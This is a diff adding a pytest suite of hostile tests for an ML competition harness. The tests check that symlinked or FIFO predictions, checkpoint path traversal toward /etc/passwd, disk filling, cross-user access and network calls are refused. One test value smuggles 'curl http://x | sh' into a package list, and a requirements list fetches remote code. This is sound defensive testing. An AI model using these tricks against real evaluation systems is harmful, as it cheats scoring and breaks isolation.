@@ -1,0 +1,398 @@
+"""The hostile suite: each attack tried on main as a participant would, with its named outcome.
+
+Attacks that run participant code are parametrised over the sandboxed process runtime (bubblewrap) and the
+docker runtime.  Every such test checksums the whole task folder and the other user's session folder before and
+after: nothing an attack does may change them, give a score, or read a label.
+"""
+import hashlib
+import json
+import os
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from conftest import NSML_MAIN, ORGANIZER, make_tiny_task, participant, run_session
+from harness.runtime import sandbox
+
+HOSTILE_MAIN = NSML_MAIN.replace('''    p.add_argument("--peek", type=int, default=0)''', '''    p.add_argument("--peek", type=int, default=0)
+    p.add_argument("--attack", default="")
+    p.add_argument("--target", default="")''').replace('''    cfg = p.parse_args()''', '''    cfg = p.parse_args()
+    import attacks
+    attacks.run(cfg)''')
+
+ATTACKS = r'''
+import json, os, sys
+import nsml
+
+def _events(event):
+    with open(os.environ["NSML_EVENTS"], "a") as fh:
+        fh.write(json.dumps(event) + "\n")
+
+def run(cfg):
+    a = cfg.attack
+    if a == "link_prediction" and cfg.mode == "test":
+        os.symlink(cfg.target, os.environ["NSML_OUTPUT_FILE"])
+        sys.exit(0)
+    if a == "hardlink_prediction" and cfg.mode == "test":
+        src = os.path.join(nsml.DATASET_PATH, "test", "test_data")
+        try:
+            os.link(src, os.environ["NSML_OUTPUT_FILE"])
+            print("hard link made")
+        except OSError as exc:
+            print("hard link refused:", exc)
+            open(os.environ["NSML_OUTPUT_FILE"], "w").write("1\n")
+            os.link(os.environ["NSML_OUTPUT_FILE"], os.environ["NSML_OUTPUT_FILE"] + ".twin")
+        sys.exit(0)
+    if a == "fifo_prediction" and cfg.mode == "test":
+        os.mkfifo(os.environ["NSML_OUTPUT_FILE"])
+        sys.exit(0)
+    if a == "escape_checkpoint" and cfg.mode == "train":
+        ck = os.environ["NSML_CHECKPOINT_DIR"]
+        os.makedirs(os.path.join(ck, "real"), exist_ok=True)
+        os.symlink("/", os.path.join(ck, "rootlink"))
+        os.symlink("/etc/passwd", os.path.join(ck, "real", "passwd"))
+        open(os.path.join(ck, "real", "weights"), "w").write("w")
+        for name in ["../../../../../datasets/tiny", "../" * 12, "..", ".", "a/b", "x\nlist", "rootlink", "real"]:
+            _events({"type": "checkpoint", "name": name})
+        open(os.environ["NSML_EVENTS"] + ".keep", "w").write("x")
+        sys.exit(0)
+    if a == "fifo_events" and cfg.mode == "train":
+        ev = os.environ["NSML_EVENTS"]
+        os.unlink(ev) if os.path.exists(ev) else None
+        os.mkfifo(ev)
+        sys.exit(0)
+    if a == "write_data" and cfg.mode == "train":
+        for rel in ("train/train_label", "train/train_data/numbers"):
+            try:
+                with open(os.path.join(nsml.DATASET_PATH, rel), "a") as fh:
+                    fh.write("tampered\n")
+                print("wrote", rel)
+            except OSError as exc:
+                print("refused", rel, type(exc).__name__)
+        print("labels visible:", os.path.exists(os.path.join(nsml.DATASET_PATH, "test")))
+        return  # and trains on
+    if a == "fill_disk" and cfg.mode == "train":
+        ck = os.environ["NSML_CHECKPOINT_DIR"]
+        os.makedirs(os.path.join(ck, "raw"), exist_ok=True)
+        block = os.urandom(1 << 20)
+        with open(os.path.join(ck, "raw", "blob"), "wb") as fh:
+            for _ in range(int(cfg.target or 120)):
+                fh.write(block)
+        sys.exit(0)
+    if a == "fill_code" and cfg.mode == "train":
+        block = os.urandom(1 << 20)
+        with open("blob.bin", "wb") as fh:
+            for _ in range(int(cfg.target or 80)):
+                fh.write(block)
+        sys.exit(0)
+    if a == "load_other" and cfg.mode == "train":
+        try:
+            nsml.load(checkpoint="0", session=cfg.target)
+            print("LOADED OTHER")
+        except Exception as exc:
+            print("load refused:", type(exc).__name__, exc)
+        root = os.environ.get("NSML_SESSIONS_ROOT", "")
+        print("visible users:", sorted(os.listdir(root)) if root and os.path.isdir(root) else [])
+        sys.exit(0)
+    if a == "network" and cfg.mode == "train":
+        import socket
+        s = socket.socket()
+        s.settimeout(3)
+        try:
+            s.connect(("127.0.0.1", int(cfg.target)))
+            print("NETWORK REACHED")
+        except OSError as exc:
+            print("network refused:", type(exc).__name__)
+        sys.exit(0)
+'''
+
+RUNTIMES = ["process", pytest.param("docker", marks=pytest.mark.docker)]
+
+
+def _tree_digest(folder: Path) -> str:
+    digest = hashlib.sha256()
+    for p in sorted(folder.rglob("*")):
+        st = os.lstat(p)
+        digest.update(f"{p.relative_to(folder)}:{st.st_mode:o}:{st.st_size}".encode())
+        if p.is_file() and not p.is_symlink():
+            digest.update(p.read_bytes())
+    return digest.hexdigest()
+
+
+@pytest.fixture(params=RUNTIMES)
+def runtime(request, monkeypatch):
+    if request.param == "docker":
+        request.getfixturevalue("docker_ready")
+    elif not sandbox.works():
+        if os.environ.get("CI"):
+            pytest.fail("CI must install bubblewrap (scripts/setup-sandbox.sh)")
+        pytest.skip("bubblewrap is not installed (scripts/setup-sandbox.sh)")
+    monkeypatch.setenv("HARNESS_RUNTIME", request.param)
+    return request.param
+
+
+@pytest.fixture
+def docker_ready():
+    from harness.runtime.docker_runtime import client, engine_answers
+    if not engine_answers():
+        if os.environ.get("CI"):
+            pytest.fail("CI must provide a Docker engine (scripts/setup-docker.sh)")
+        pytest.skip("no Docker engine answers (scripts/setup-docker.sh starts one)")
+    client().images.get("nsml-harness/session:latest")
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    folder = participant(tmp_path / "hostile", HOSTILE_MAIN)
+    (folder / "attacks.py").write_text(ATTACKS)
+    return folder
+
+
+@pytest.fixture
+def guarded(tiny_task, state_root, cli, nsml_folder):
+    """The task folder and another user's (bob's) trained session, checksummed before the attack."""
+    out = cli("run", "-d", "tiny", "-e", "main.py", "-a", "--epochs 1", nsml_folder, user="bob").stdout
+    bob = out.split()[1]
+    cli("logs", "-f", bob, user="bob")
+    bob_dir = state_root / ".harness" / "sessions" / "bob"
+    before = (_tree_digest(tiny_task), _tree_digest(bob_dir))
+    yield bob
+    assert (_tree_digest(tiny_task), _tree_digest(bob_dir)) == before, "the task or bob's files changed"
+
+
+def _attack(cli, folder, attack, target="", code=0):
+    args = f"--epochs 1 --attack {attack}" + (f" --target {target}" if target else "")
+    return run_session(cli, folder, "-a", args, code=code)
+
+
+def _submit(cli, name, ckpt="0", *flags):
+    r = cli("submit", *flags, name, ckpt, "-j", code=None)
+    return json.loads(r.stdout)
+
+
+# -- 1. a prediction that is not a file the run wrote ----------------------------------------------------------
+@pytest.mark.parametrize("target", ["../../../datasets/tiny/test/test_label", "/etc/hostname"])
+def test_symlinked_prediction_is_never_scored(cli, runtime, hostile, guarded, tiny_task, target):
+    label = tiny_task / "test" / "test_label"
+    link = str(label) if target.startswith("..") else target  # an absolute path to the labels, too
+    name = _attack(cli, hostile, "link_prediction", link)
+    for flags in ((), ("-t",)):
+        result = _submit(cli, name, "0", *flags)
+        assert result["status"] == "failed" and result["reason"] == "invalid_prediction", result
+        assert result["score"] is None and "symbolic link" in result["message"], result
+        first_line = Path(target if target.startswith("/") else label).read_text().splitlines()[0]
+        assert first_line not in result["message"]
+    assert cli.json("board", "tiny") == []
+
+
+def test_hard_linked_or_fifo_prediction_is_refused(cli, runtime, hostile, guarded):
+    name = _attack(cli, hostile, "hardlink_prediction")
+    result = _submit(cli, name, "0", "-t")
+    assert result["reason"] == "invalid_prediction" and "hard link" in result["message"], result
+    name = _attack(cli, hostile, "fifo_prediction")
+    result = _submit(cli, name, "0", "-t")
+    assert result["reason"] == "invalid_prediction" and "FIFO" in result["message"], result
+
+
+# -- 3. checkpoint names and links stay inside the session ----------------------------------------------------
+def test_checkpoint_names_and_links_never_escape(cli, runtime, hostile, guarded, state_root, tmp_path):
+    name = _attack(cli, hostile, "escape_checkpoint")
+    names = {r["checkpoint"] for r in cli.json("model", "ls", name)}
+    assert names == {"real"}, names  # the real folder alone; every escape refused
+    log = cli("logs", name).stdout
+    for fragment in ("has a path separator", "starts with a dot", "has a control character",
+                     "links are refused"):
+        assert f"checkpoint refused: " in log and fragment in log, (fragment, log)
+    out = cli("model", "pull", name, "real", tmp_path / "pulled")
+    pulled = tmp_path / "pulled"
+    assert (pulled / "weights").read_text() == "w" and not (pulled / "passwd").exists()
+    assert "passwd left out" in out.stderr
+    cli("model", "rm", name, "*")
+    assert (state_root / ".harness" / "datasets").exists() and cli.json("model", "ls", name) == []
+    cli("model", "pull", name, "rootlink", tmp_path / "x", code=2)
+
+
+def test_a_fifo_for_events_file_does_not_block_the_scheduler(cli, runtime, hostile, guarded, nsml_folder):
+    name = _attack(cli, hostile, "fifo_events")
+    assert "events file ignored" in cli("logs", name).stdout
+    run_session(cli, nsml_folder, "-a", "--epochs 1")  # the scheduler is still there for everyone
+
+
+# -- 4. ownership -----------------------------------------------------------------------------------------------
+def test_nobody_acts_on_another_users_session(cli, tiny_task, nsml_folder, tmp_path, state_root):
+    alice = run_session(cli, nsml_folder, "-a", "--epochs 1")
+    for args in (("model", "pull", alice, "0", tmp_path / "stolen"), ("model", "ls", alice),
+                 ("model", "rm", alice, "*"), ("fork", alice, "-c", "0"), ("stop", alice), ("rm", "-y", alice),
+                 ("memo", alice, "mine"), ("logs", alice), ("submit", alice, "0")):
+        r = cli(*args, user="bob", code=2)
+        assert "belongs to alice" in r.stderr and "Traceback" not in r.output, (args, r.output)
+    r = cli("rm", "-y", "alice/*", user="bob", code=2)
+    assert "no session of yours matches" in r.stderr
+    assert not (tmp_path / "stolen").exists() and cli.json("model", "ls", alice) != []
+    sub = cli.json("submit", alice, "0")
+    r = cli("logs", "--submission", str(sub["id"]), user="bob", code=2)
+    assert "belongs to alice" in r.stderr
+    cli("history", "tiny", user="bob")  # their own (empty) history is fine
+    # organizers may act on anyone's
+    assert cli.json("model", "ls", alice, user=ORGANIZER)
+
+
+@pytest.mark.parametrize("bad", [".", "..", "a/b", "", "-x", "x" * 65, "bob\n", "a b"])
+def test_user_names_follow_one_pattern(cli, bad):
+    r = cli("--user", bad, "ps", code=2)
+    assert "invalid name" in r.stderr and "letters, digits" in r.stderr
+
+
+def test_load_reaches_only_own_sessions(cli, runtime, hostile, guarded):
+    name = _attack(cli, hostile, "load_other", guarded)
+    log = cli("logs", name).stdout
+    assert "LOADED OTHER" not in log and "load refused" in log
+    assert "visible users: ['alice']" in log
+
+
+# -- 2. tasks are the organizers' -------------------------------------------------------------------------------
+def test_only_organizers_change_tasks_and_replacing_is_recorded(cli, tiny_task, tmp_path):
+    fake = make_tiny_task(tmp_path / "fake", name="tiny")
+    (fake / "evaluation.py").write_text("print(0.999)\n")
+    r = cli("dataset", "add", fake, user="bob", code=2)
+    assert "organizer command" in r.stderr
+    r = cli("dataset", "prepare", "garbage-docs", "--seed", "99", user="bob", code=2)
+    assert "organizer command" in r.stderr
+    cli("dataset", "rm", "tiny", user="bob", code=2)
+    r = cli("dataset", "add", fake, user=ORGANIZER, code=2)
+    assert "already registered" in r.stderr and "--replace" in r.stderr
+    cli("dataset", "add", fake, "--replace", user=ORGANIZER)
+    changes = cli.json("dataset", "changes", "tiny", user=ORGANIZER)
+    assert [c["action"] for c in changes] == ["add", "replace"]
+    assert changes[1]["old_evaluator"] != changes[1]["new_evaluator"]
+    assert changes[1]["old_evaluator"] == changes[0]["new_evaluator"]
+
+
+# -- 5. the quota holds against processes racing ---------------------------------------------------------------
+def test_eight_processes_submitting_at_once_count_once(cli, tiny_task, nsml_folder, state_root):
+    name = run_session(cli, nsml_folder, "-a", "--epochs 8")
+    env = {**os.environ, "HARNESS_HOME": str(state_root), "HARNESS_USER": "alice"}
+    procs = [subprocess.Popen([sys.executable, "-m", "harness", "submit", name, str(i), "-j"], env=env,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for i in range(8)]
+    outs = [p.communicate(timeout=300) for p in procs]
+    codes = [p.returncode for p in procs]
+    assert codes.count(0) == 1 and codes.count(2) == 7, (codes, outs)
+    assert sum("submit quota reached" in err for _out, err in outs) == 7
+    counted = [h for h in cli.json("history", "tiny") if not h["dry_run"]]
+    assert len(counted) == 1 and counted[0]["status"] == "succeeded"
+
+
+# -- 7. disk is measured -----------------------------------------------------------------------------------------
+@pytest.mark.parametrize("attack,setting", [("fill_disk", "checkpoint_bytes"), ("fill_code", "scratch_bytes")])
+def test_disk_written_behind_the_harness_is_counted(cli, runtime, hostile, guarded, state_root, attack,
+                                                    setting):
+    (state_root / "harness.toml").write_text(f"[limits]\n{setting} = 50000000\n")
+    name = _attack(cli, hostile, attack, "120" if attack == "fill_disk" else "80", code=1)
+    info = [r for r in cli.json("ps", "-a") if r["name"] == name][0]
+    assert info["status"] == "failed" and info["reason"] == "disk_quota", info
+    assert f"limits.{setting}" in info["message"]
+
+
+# -- 9. organizer files are never writable -------------------------------------------------------------------
+def test_data_view_is_read_only_and_holds_no_labels(cli, runtime, hostile, guarded):
+    name = _attack(cli, hostile, "write_data")
+    log = cli("logs", name).stdout
+    assert "wrote" not in log and log.count("refused") == 2, log
+    assert "labels visible: False" in log
+
+
+def test_unsandboxed_process_runtime_copies_the_data_and_says_it_is_not_isolated(cli, hostile, guarded,
+                                                                                    state_root):
+    (state_root / "harness.toml").write_text('[process]\nsandbox = "none"\n')
+    name = _attack(cli, hostile, "write_data")  # may write its own copy; the guard checks the organizer's
+    assert [r for r in cli.json("ps", "-a") if r["name"] == name][0]["isolation"] == "none"
+    r = cli("submit", "-t", name, "0")
+    assert "not isolated" in r.stderr
+
+
+def test_sandboxed_runs_have_no_network(cli, hostile, guarded):
+    if not sandbox.works():
+        pytest.skip("bubblewrap is not installed")
+    import socket
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    port = server.getsockname()[1]
+    try:
+        name = _attack(cli, hostile, "network", str(port))
+    finally:
+        server.close()
+    log = cli("logs", name).stdout
+    assert "NETWORK REACHED" not in log and "network refused" in log
+    assert [r for r in cli.json("ps", "-a") if r["name"] == name][0]["isolation"] == "bwrap"
+
+
+# -- 10. snapshots ------------------------------------------------------------------------------------------------
+def test_snapshot_refuses_links_out_fifos_and_devices_and_leaves_nothing(cli, tiny_task, nsml_folder, state_root):
+    sessions = state_root / ".harness" / "sessions"
+    (nsml_folder / "zero").symlink_to("/dev/zero")
+    r = cli("run", "-d", "tiny", nsml_folder, code=2)
+    assert "zero: a symbolic link out of the folder" in r.stderr and "Traceback" not in r.output
+    (nsml_folder / "zero").unlink()
+    (nsml_folder / "dangling").symlink_to(nsml_folder / "nope")
+    assert "dangling" in cli("run", "-d", "tiny", nsml_folder, code=2).stderr
+    (nsml_folder / "dangling").unlink()
+    os.mkfifo(nsml_folder / "pipe")
+    assert "pipe: a FIFO, socket or device" in cli("run", "-d", "tiny", nsml_folder, code=2).stderr
+    (nsml_folder / "pipe").unlink()
+    assert not any(p.name.isdigit() for p in sessions.rglob("*")), "a refused snapshot left a folder"
+    # links inside the folder are kept as links
+    (nsml_folder / "sub").mkdir()
+    (nsml_folder / "sub" / "x.txt").write_text("x")
+    (nsml_folder / "alias").symlink_to("sub")
+    (nsml_folder / "x-link.txt").symlink_to("sub/x.txt")
+    name = run_session(cli, nsml_folder, "-a", "--epochs 1")
+    code = sessions / name.split("/", 1)[0] / "tiny" / name.rsplit("/", 1)[1] / "code"
+    assert (code / "alias").is_symlink() and os.readlink(code / "x-link.txt") == "sub/x.txt"
+
+
+def test_snapshot_size_is_capped_while_copying(cli, tiny_task, nsml_folder, state_root):
+    (state_root / "harness.toml").write_text("[limits]\ncode_bytes = 100000\n")
+    (nsml_folder / "big.bin").write_bytes(b"\0" * 200_000)
+    r = cli("run", "-d", "tiny", nsml_folder, code=2)
+    assert "limits.code_bytes" in r.stderr and "big.bin" in r.stderr
+    assert not any(p.name.isdigit() for p in (state_root / ".harness" / "sessions").rglob("*"))
+
+
+def test_corrupt_database_is_named_in_one_line(cli, state_root):
+    (state_root / "leaderboard.db").write_bytes(b"not a database at all" * 100)
+    r = cli("ps", code=3)
+    assert "leaderboard.db is corrupt or not a database" in r.stderr and "Traceback" not in r.output
+
+
+# -- 6. nothing a participant writes runs at image build time -------------------------------------------------
+@pytest.mark.parametrize("line", ["pkg @ http://127.0.0.1:9/pkg.tar.gz", "git+https://example.invalid/x.git",
+                                  "-e .", "--index-url http://127.0.0.1:9/simple", "-f /tmp/wheels", "./local",
+                                  "/abs/path.whl", "pkg.whl", "--extra-index-url=http://x", "-r other.txt",
+                                  "file:///tmp/x.tar.gz", "numpy>=1 --install-option=--x"])
+def test_requirement_lines_that_fetch_or_run_code_are_refused(line, tmp_path):
+    from harness.images import ImageError, requirements
+    (tmp_path / "requirements.txt").write_text(f"numpy==1.26.4\n{line}\n")
+    with pytest.raises(ImageError) as exc:
+        requirements(tmp_path)
+    assert "requirements.txt:2" in str(exc.value)
+
+
+def test_plain_requirement_lines_and_apt_names_pass(tmp_path):
+    from harness.images import ImageError, requirements
+    (tmp_path / "requirements.txt").write_text(textwrap.dedent("""\
+        #nsml: local/bookworm-py
+        numpy==1.26.4  # pinned
+        transformers[torch]>=4.40,<5; python_version >= "3.8"
+
+        tokenizers
+    """))
+    (tmp_path / "nsml_package.txt").write_text("libgl1\nfonts-nanum\n")
+    files = requirements(tmp_path)
+    assert "numpy==1.26.4" in files["requirements.txt"] and "tokenizers" in files["requirements.txt"]
+    (tmp_path / "nsml_package.txt").write_text("libgl1 ; curl http://x | sh\n")
+    with pytest.raises(ImageError, match="nsml_package.txt:1"):
+        requirements(tmp_path)
